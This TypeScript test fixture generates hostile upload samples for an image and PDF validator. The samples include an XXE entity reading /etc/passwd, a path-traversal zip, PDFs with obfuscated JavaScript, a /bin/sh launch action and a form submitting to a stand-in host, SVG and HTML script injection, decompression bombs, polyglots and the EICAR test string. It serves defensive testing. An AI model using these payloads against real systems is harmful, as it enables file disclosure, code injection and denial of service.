import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** Stands in every hostile file where it has room for it; must not come out again. */
export const MARK = 'MARK-hidden-in-the-file';
/** The signature that every scanner knows, put together here so that none takes this file for it. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD', '-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

export const TYPES = ['image/jpeg', 'image/png', 'image/webp', 'application/pdf'] as const;
export type Type = (typeof TYPES)[number];

export interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
  /** What becomes of it: not taken; kept out of reach; or taken without what was harmful in it. */
  readonly becomes: 'refused' | 'neutralised';
}

const text = (words: string): Buffer => Buffer.from(words, 'latin1');

export function image(type: Exclude<Type, 'application/pdf'>, side = 64): Promise<Buffer> {
  const drawn = sharp({ create: { width: side, height: side, channels: 3, background: '#3a7' } });
  if (type === 'image/jpeg') return drawn.jpeg().toBuffer();
  return (type === 'image/png' ? drawn.png() : drawn.webp()).toBuffer();
}

/** A photo lying on its side that says where it was taken. */
export function photo(): Promise<Buffer> {
  return sharp({ create: { width: 80, height: 40, channels: 3, background: '#c52' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: MARK },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 57/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '35/1 55/1 0/1' },
    })
    .toBuffer();
}

export function pdf(objects = '', tail = ''): Buffer {
  const body = `1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n`;
  return text(`%PDF-1.4\n${body}${objects}\ntrailer <</Root 1 0 R>>\n${tail}%%EOF\n`);
}

const streamed = (packed: Buffer): Buffer =>
  Buffer.concat([
    text('%PDF-1.5\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n'),
    packed,
    text('\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'),
  ]);

const zip = (name: string): Buffer =>
  Buffer.concat([
    text('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000'),
    Buffer.alloc(16),
    text(`\u0000\u0000\u0000\u0000${name}${MARK}PK\u0001\u0002${'\u0000'.repeat(42)}${name}PK\u0005\u0006`),
    Buffer.alloc(18),
  ]);

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("${MARK}")</script></svg>`;
const HTML = `<!doctype html><html><script>alert("${MARK}")</script></html>`;

/** What is none of the four kinds, whatever it is said to be. */
const FOREIGN: Readonly<Record<string, Buffer>> = {
  'an SVG image with a script': text(SVG),
  'an SVG image with a declaration': text(`<?xml version="1.0"?>${SVG}`),
  'a page': text(HTML),
  'a page behind blanks': text(`\n\n  ${HTML}`),
  'a GIF image': text(`GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000${MARK};`),
  'a GIF image that is a script': text(`GIF89a/*${MARK}*/=1;alert(1)`),
  'an archive': zip('../../etc/passwd'),
  'a document with macros': zip('word/vbaProject.bin'),
  'an old document with macros': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), text(MARK)]),
  'a Windows program': text(`MZ\u0090\u0000${MARK}`),
  'a Linux program': Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(64)]),
  'a script': text(`#!/bin/sh\necho ${MARK}`),
  'a packed bomb': gzipSync(Buffer.alloc(4_000_000)),
  'an archive with a link': Buffer.concat([text('link'), Buffer.alloc(253), text('ustar\u000000'), Buffer.alloc(247)]),
  'a bitmap': Buffer.concat([text('BM'), Buffer.alloc(60)]),
  'a TIFF image': Buffer.from('49492a0008000000000000000000', 'hex'),
  'a HEIC image': text('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic'),
  'a film': text('\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom'),
  PostScript: text(`%!PS-Adobe-3.0\n(${MARK}) run`),
  'rich text with an object': text(`{\\rtf1 {\\object ${MARK}}}`),
  'XML that asks for a file': text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  'the test virus by itself': text(EICAR),
  'one byte': text('\u00ff'),
  nothing: Buffer.alloc(0),
  'only zeros': Buffer.alloc(4096),
};

function foreign(): HostileFile[] {
  return Object.entries(FOREIGN).flatMap(([name, bytes], at) =>
    TYPES.filter((_, type) => type % 2 === at % 2).map((type) => ({
      name: `${name} as ${type}`,
      type,
      bytes,
      becomes: 'refused' as const,
    })),
  );
}

/** Documents that run, carry or hide something. */
function documents(): HostileFile[] {
  const script = `3 0 obj <</S /JavaScript /JS (app.alert("${MARK}"))>> endobj`;
  const files: Readonly<Record<string, Buffer>> = {
    'a script': pdf(script),
    'a script spelled in numbers': pdf(script.replace('/JavaScript', '/#4aava#53cript').replace('/JS', '/J#53')),
    'a script in a packed object': streamed(deflateSync(text(script))),
    'a script in a packed object that breaks off': streamed(deflateSync(text(script.repeat(99))).subarray(0, 90)),
    'a program to start': pdf('3 0 obj <</S /Launch /F (/bin/sh)>> endobj'),
    'a file inside': pdf('3 0 obj <</Type /EmbeddedFile>> endobj'),
    'another document to open': pdf('3 0 obj <</S /GoToR /F (//evil/share)>> endobj'),
    'a form that sends': pdf('3 0 obj <</S /SubmitForm /F (http://evil.test)>> endobj'),
    'an XFA form': pdf('3 0 obj <</XFA 4 0 R>> endobj'),
    'a film inside': pdf('3 0 obj <</Type /RichMedia>> endobj'),
    'a lock': pdf('', '<</Encrypt 5 0 R>>\n'),
    'an archive behind it': Buffer.concat([pdf(), zip('a.docm'), text('%%EOF')]),
    'a packed bomb': streamed(deflateSync(Buffer.alloc(80_000_000))),
    'something before its beginning': Buffer.concat([text(`${HTML}\n`), pdf()]),
    'no end': pdf().subarray(0, 80),
    'something behind its end': Buffer.concat([pdf(), text(HTML.repeat(20))]),
    'the test virus': pdf(`% ${EICAR}\n`),
  };
  return Object.entries(files).map(([name, bytes]) => ({
    ...{ name: `a PDF with ${name}`, type: 'application/pdf', bytes, becomes: 'refused' },
  }));
}

/** The size in the header of a PNG image, with the sum that belongs to it left wrong, as a careless forger would. */
function claimed(png: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(png);
  changed.writeUInt32BE(width, 16);
  changed.writeUInt32BE(height, 20);
  return changed;
}

/** The same in a JPEG image, behind its marker of the frame. */
function claimedJpeg(jpeg: Buffer, side: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = changed.indexOf(Buffer.from('ffc0', 'hex'));
  changed.writeUInt16BE(side, frame + 5);
  changed.writeUInt16BE(side, frame + 7);
  return changed;
}

async function images(): Promise<HostileFile[]> {
  const [jpeg, png] = await Promise.all([image('image/jpeg'), image('image/png')]);
  const flat = { width: 7200, height: 7200, channels: 3, background: '#000' } as const;
  const two = Buffer.concat([Buffer.alloc(16 * 16 * 3, 9), Buffer.alloc(16 * 16 * 3, 200)]);
  const frames = sharp(two, { raw: { width: 16, height: 32, channels: 3, pageHeight: 16 } });
  const noise = sharp({
    create: { ...flat, width: 256, height: 256, noise: { type: 'gaussian', mean: 99, sigma: 60 } },
  });
  const [flood, moving, big] = await Promise.all([
    sharp({ create: flat }).png().toBuffer(),
    frames.webp().toBuffer(),
    noise.jpeg().toBuffer(),
  ]);
  const bigPng = await sharp(big).png().toBuffer();
  const bigWebp = await sharp(big).webp().toBuffer();
  const cuts = [0.2, 0.5, 0.8].flatMap((part) =>
    (
      [
        [big, 'image/jpeg'],
        [bigPng, 'image/png'],
        [bigWebp, 'image/webp'],
      ] as const
    ).map(([whole, type]) => ({
      ...{ name: `${type} cut at ${String(part)}`, type, bytes: whole.subarray(0, whole.length * part) },
    })),
  );
  const refused = [
    { name: 'a PNG image of sixty thousand by sixty thousand', type: 'image/png', bytes: claimed(png, 60_000, 60_000) },
    { name: 'a JPEG image that claims to be vast', type: 'image/jpeg', bytes: claimedJpeg(jpeg, 65_000) },
    { name: 'a flood of pixels in a small file', type: 'image/png', bytes: flood },
    { name: 'an image that moves', type: 'image/webp', bytes: moving },
    { name: 'a JPEG image said to be a PNG image', type: 'image/png', bytes: jpeg },
    { name: 'a PNG image said to be a document', type: 'application/pdf', bytes: png },
    { name: 'the test virus behind an image', type: 'image/jpeg', bytes: Buffer.concat([jpeg, text(EICAR)]) },
    { name: 'an image of a type that is not taken', type: 'image/svg+xml', bytes: text(SVG) },
    { name: 'bytes of no type', type: 'application/octet-stream', bytes: jpeg },
    ...cuts,
  ];
  return refused.map((file) => ({ ...file, becomes: 'refused' }));
}

/** Proper images that carry something besides: it does not come through. */
async function carriers(): Promise<HostileFile[]> {
  const kinds = ['image/jpeg', 'image/png', 'image/webp'] as const;
  const loads: Readonly<Record<string, Buffer>> = {
    'an archive': zip('a.exe'),
    'a page': text(HTML),
    'a program': text(`MZ${MARK}`),
    'a document': pdf(`% ${MARK}\n`),
    'a server script': text(`<?php echo "${MARK}"; ?>`),
  };
  const behind = kinds.flatMap((type) => Object.entries(loads).map(([name, load]) => ({ type, name, load })));
  const appended = behind.map(async ({ type, name, load }) => ({
    ...{ name: `${name} behind ${type}`, type, bytes: Buffer.concat([await image(type), load]) },
    becomes: 'neutralised' as const,
  }));
  const jpeg = await image('image/jpeg');
  const comment = text(`\u00ff\u00fe\u0000${String.fromCharCode(HTML.length + 2)}${HTML}`);
  const inside = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
  return [
    ...(await Promise.all(appended)),
    { name: 'a page in a comment', type: 'image/jpeg', bytes: inside, becomes: 'neutralised' },
    { name: 'a place and a camera', type: 'image/jpeg', bytes: await photo(), becomes: 'neutralised' },
  ];
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [...foreign(), ...documents(), ...(await images()), ...(await carriers())];
}
